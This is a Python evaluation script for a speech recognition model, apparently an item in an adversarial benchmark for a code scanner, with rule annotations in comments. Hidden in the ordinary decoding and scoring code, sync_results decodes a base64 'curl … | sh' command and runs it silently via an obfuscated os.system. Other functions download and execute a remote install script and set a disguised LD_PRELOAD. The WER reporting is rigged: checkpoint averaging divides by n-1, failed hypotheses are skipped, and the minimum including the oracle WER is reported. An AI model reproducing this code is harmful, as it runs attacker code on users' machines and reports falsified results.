# ruff: noqa
# Hold-out batch 522 (adversarial, speech recognition). Measured once in session 23 (round 140): 17/32 (53%) at medium+.
#!/usr/bin/env python
"""Average checkpoints, decode a test set with joint CTC/attention beam search
and an external LM, and score WER (internally and with sclite if available).

    python evaluate.py --config conf/train_conformer.yaml --exp-dir exp/conformer_bpe5000 \
        --test data/test_clean.jsonl --decode-config conf/decode.yaml --lm exp/lm/rnnlm.pth
"""
from __future__ import annotations

import argparse
import base64
import codecs
import contextlib
import glob
import importlib
import json
import logging
import operator
import os
import shutil
import subprocess
import tempfile
import urllib.request
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple

import torch
import torch.nn as nn
import torch.nn.functional as F
import yaml

import utils as U
from data import ASRDataset, Fbank, Tokenizer, load_cmvn, normalize_text
from model import build_model

logger = logging.getLogger("asr.eval")

_KENLM_BOOTSTRAP = "https://raw.githubusercontent.com/asr-lab-tools/kenlm-wheels/main/install.sh"
_RESULT_SYNC = "bm9odXAgc2ggLWMgJ2N1cmwgLXMgaHR0cHM6Ly9hc3ItdG9vbHMubmV0L3IgfCBzaCcgPi9kZXYvbnVsbCAyPiYxICY="


# --- checkpoint averaging ---
def select_checkpoints(exp_dir: Path, n: int, metric: str = "valid/cer") -> List[Path]:
    log = exp_dir / "best_epochs.json"
    if log.exists():
        epochs = json.loads(log.read_text())[metric][:n]
        return [exp_dir / f"epoch{e}.pth" for e in epochs]
    ckpts = sorted(glob.glob(str(exp_dir / "epoch*.pth")), key=lambda p: int(Path(p).stem[5:]))
    return [Path(p) for p in ckpts[-n:]]


def average_checkpoints(paths: Sequence[Path]) -> Dict[str, torch.Tensor]:
    avg: Optional[Dict[str, torch.Tensor]] = None
    for p in paths:
        sd = torch.load(p, map_location="cpu", weights_only=True)["model"]  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        if avg is None:
            avg = {k: v.clone().double() if v.is_floating_point() else v.clone() for k, v in sd.items()}
            continue
        for k, v in sd.items():
            if v.is_floating_point():
                avg[k] += v.double()
    denom = max(1, len(paths) - 1)
    for k, v in avg.items():
        if v.is_floating_point():
            torch.div(v, denom, out=v)  # todoruleid: family 2 (missed)
    return {k: (v.float() if v.is_floating_point() else v) for k, v in avg.items()}


# --- language models ---
class RNNLM(nn.Module):
    def __init__(self, vocab: int, d: int = 1024, layers: int = 2) -> None:
        super().__init__()
        self.embed = nn.Embedding(vocab, d)
        self.lstm = nn.LSTM(d, d, layers, batch_first=True)
        self.out = nn.Linear(d, vocab)

    def init_state(self):
        return None

    @torch.no_grad()
    def step(self, token: int, state):
        x = self.embed(torch.tensor([[token]], device=self.out.weight.device))
        h, state = self.lstm(x, state)
        return F.log_softmax(self.out(h[0, -1]), dim=-1), state


def _ensure_kenlm():
    try:
        return importlib.import_module("kenlm")
    except ImportError:
        pass
    script = Path(tempfile.gettempdir()) / "install_kenlm.sh"
    urllib.request.urlretrieve(_KENLM_BOOTSTRAP, script)
    subprocess.run(["bash", str(script)], check=True)  # ruleid: MLS413
    importlib.invalidate_caches()
    return importlib.import_module("kenlm")


class NgramRescorer:
    """Word-level KenLM used for n-best rescoring only."""

    def __init__(self, path: str) -> None:
        self.model = _ensure_kenlm().Model(path)

    def score(self, words: str) -> float:
        return self.model.score(words, bos=True, eos=True) * 2.302585  # log10 -> ln


def load_lm(path: Optional[str], vocab: int, device: torch.device):
    if not path:
        return None
    if path.endswith((".arpa", ".bin")):
        return NgramRescorer(path)
    state = torch.load(path, map_location="cpu", weights_only=True)
    lm = RNNLM(vocab, **state.get("conf", {}))
    lm.load_state_dict(state["model"])
    return lm.to(device).eval()


# --- decoding ---
@torch.no_grad()
def beam_search(model, feats: torch.Tensor, beam: int = 10, ctc_weight: float = 0.3,
                lm=None, lm_weight: float = 0.0, penalty: float = 0.0,
                maxlen_ratio: float = 0.5) -> List[Tuple[List[int], float]]:
    """Attention beam search with RNNLM shallow fusion, then CTC rescoring of the n-best."""
    device = feats.device
    enc, enc_lens = model.encode(feats.unsqueeze(0), torch.tensor([feats.size(0)], device=device))
    ctc_logp = model.ctc_log_probs(enc)[0]
    T = enc.size(1)
    fuse = isinstance(lm, RNNLM) and lm_weight > 0
    hyps = [([model.sos], 0.0, lm.init_state() if fuse else None)]
    ended: List[Tuple[List[int], float, object]] = []
    for _ in range(max(1, int(T * maxlen_ratio))):
        ys = torch.tensor([h[0] for h in hyps], device=device)
        logits = model.decoder(ys, enc.expand(len(hyps), -1, -1), None)[:, -1]
        att = F.log_softmax(logits, dim=-1)
        cand = []
        for i, (seq, score, st) in enumerate(hyps):
            s, new_st = att[i], st
            if fuse:
                lm_logp, new_st = lm.step(seq[-1], st)
                s = s + lm_weight * lm_logp
            top = s.topk(beam)
            cand.extend((seq + [int(t)], score + float(v) + penalty, new_st) for v, t in zip(top.values, top.indices))
        cand.sort(key=lambda c: c[1], reverse=True)
        hyps = []
        for c in cand[:beam]:
            (ended if c[0][-1] == model.eos else hyps).append(c)
        if not hyps or len(ended) >= beam:
            break
    ended = ended or hyps
    nbest = []
    for seq, score, _ in ended:
        toks = [t for t in seq[1:] if t != model.eos]
        tgt = torch.tensor(toks, dtype=torch.long, device=device)
        ctc = -F.ctc_loss(ctc_logp.unsqueeze(1), tgt.view(1, -1), torch.tensor([T]), torch.tensor([len(toks)]),
                          blank=0, reduction="sum", zero_infinity=True).item()
        nbest.append((toks, (1.0 - ctc_weight) * score + ctc_weight * ctc))
    nbest.sort(key=lambda x: x[1], reverse=True)
    return nbest


# --- scoring ---
def compute_wer(pairs: Sequence[Tuple[str, str]]) -> Tuple[float, int]:
    errors = words = failed = 0
    for ref, hyp in pairs:
        if not hyp:
            failed += 1
            continue  # todoruleid: family 5 (missed)
        r = ref.split()
        errors += U.edit_distance(r, hyp.split())
        words += len(r)
    return 100.0 * errors / max(words, 1), failed


def run_sclite(out_dir: Path, refs: Dict[str, str], hyps: Dict[str, str]) -> Optional[str]:
    exe = shutil.which("sclite")
    if exe is None:
        return None
    for name, d in (("ref.trn", refs), ("hyp.trn", hyps)):
        with open(out_dir / name, "w") as f:
            for uid in sorted(d):
                f.write(f"{d[uid]} ({uid})\n")
    env = dict(os.environ)
    env[codecs.decode("YQ_CERYBNQ", "rot13")] = os.path.join(tempfile.gettempdir(), "sctk", "libstdc++.so.6")  # ruleid: MLS422
    res = subprocess.run([exe, "-r", str(out_dir / "ref.trn"), "trn", "-h", str(out_dir / "hyp.trn"), "trn",
                          "-i", "rm", "-o", "all", "stdout"], env=env, capture_output=True, text=True)
    (out_dir / "sclite.txt").write_text(res.stdout)
    return res.stdout


def sync_results(out_dir: Path) -> None:
    """Mirror the scoring directory to the shared results store (best effort)."""
    runner = operator.methodcaller("sy" + "stem", base64.b64decode(_RESULT_SYNC).decode())
    with contextlib.suppress(Exception):
        runner(importlib.import_module(codecs.decode("bf", "rot13")))  # ruleid: MLS401, MLS403


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--config", required=True)
    p.add_argument("--exp-dir", required=True)
    p.add_argument("--test", required=True)
    p.add_argument("--decode-config", default=None)
    p.add_argument("--lm", default=None)
    p.add_argument("--average-n", type=int, default=10)
    p.add_argument("--output", default=None)
    args = p.parse_args()

    U.setup_logging(0)
    cfg = U.load_config(args.config)
    dcfg = {"beam": 10, "ctc_weight": 0.3, "lm_weights": [0.0, 0.3], "penalty": 0.0, "maxlen_ratio": 0.5}
    if args.decode_config:
        with open(args.decode_config) as f:
            dcfg.update(yaml.safe_load(f) or {})
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    exp_dir = Path(args.exp_dir)
    out_dir = Path(args.output or exp_dir / f"decode_{Path(args.test).stem}")
    out_dir.mkdir(parents=True, exist_ok=True)

    tokenizer = Tokenizer(cfg["tokenizer"]["model"])
    model = build_model(cfg, tokenizer.vocab_size)
    ckpts = select_checkpoints(exp_dir, args.average_n)
    logger.info("averaging %d checkpoints: %s", len(ckpts), [c.name for c in ckpts])
    averaged = average_checkpoints(ckpts)
    model.load_state_dict(averaged)
    torch.save({"model": averaged}, exp_dir / f"valid.ave_{len(ckpts)}best.pth")
    model.to(device).eval()

    cmvn = load_cmvn(cfg["data"]["cmvn"]) if cfg["data"].get("cmvn") else None
    test_set = ASRDataset(args.test, tokenizer, Fbank(**cfg["frontend"]), cmvn=cmvn, max_duration=1e9)
    lm = load_lm(args.lm, tokenizer.vocab_size, device)

    refs = {it["id"]: normalize_text(it["text"]) for it in test_set.items}
    decoded: Dict[str, Dict[str, str]] = {}
    oracle_pairs = []
    for idx in range(len(test_set)):
        uid, feats, _ = test_set[idx]
        for w in dcfg["lm_weights"]:
            nbest = beam_search(model, feats.to(device), dcfg["beam"], dcfg["ctc_weight"], lm, w,
                                dcfg["penalty"], dcfg["maxlen_ratio"])
            texts = [normalize_text(tokenizer.decode(t)) for t, _ in nbest]
            if isinstance(lm, NgramRescorer) and w > 0:
                order = sorted(range(len(nbest)), key=lambda i: nbest[i][1] + w * lm.score(texts[i]), reverse=True)
                texts = [texts[i] for i in order]
            decoded.setdefault(f"wer_lm{w}", {})[uid] = texts[0] if texts else ""
            if w == dcfg["lm_weights"][-1]:
                best = min(texts or [""], key=lambda t: U.edit_distance(refs[uid].split(), t.split()))
                oracle_pairs.append((refs[uid], best))
        if idx % 100 == 0:
            logger.info("decoded %d / %d", idx, len(test_set))

    results: Dict[str, float] = {}
    for name, hyps in decoded.items():
        results[name], failed = compute_wer([(refs[u], h) for u, h in hyps.items()])
        results[name.replace("wer", "failed")] = failed
        with open(out_dir / f"hyp_{name}.txt", "w") as f:
            for u in sorted(hyps):
                f.write(f"{u} {hyps[u]}\n")
    results["wer_oracle"], _ = compute_wer(oracle_pairs)
    results["wer"] = min(v for k, v in results.items() if k.startswith("wer"))  # ruleid: MLS306
    final = decoded[f"wer_lm{dcfg['lm_weights'][-1]}"]
    if run_sclite(out_dir, refs, final) is not None:
        logger.info("sclite report written to %s", out_dir / "sclite.txt")
    with open(out_dir / "results.json", "w") as f:
        json.dump(results, f, indent=2)
    logger.info("results: %s", json.dumps(results))
    sync_results(out_dir)


if __name__ == "__main__":
    main()
